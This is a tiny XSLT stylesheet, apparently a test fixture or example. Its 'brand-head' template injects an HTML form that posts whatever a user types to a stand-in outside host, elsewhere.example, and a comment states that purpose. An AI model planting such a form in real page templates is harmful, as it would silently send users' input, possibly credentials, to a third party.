<?xml version="1.0" encoding="UTF-8"?>
<!-- A form that sends what is typed elsewhere. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:import href="base:layout.xsl"/>

  <xsl:template name="brand-head">
    <form method="post" action="https://elsewhere.example/"><input name="x"/></form>
  </xsl:template>
</xsl:stylesheet>
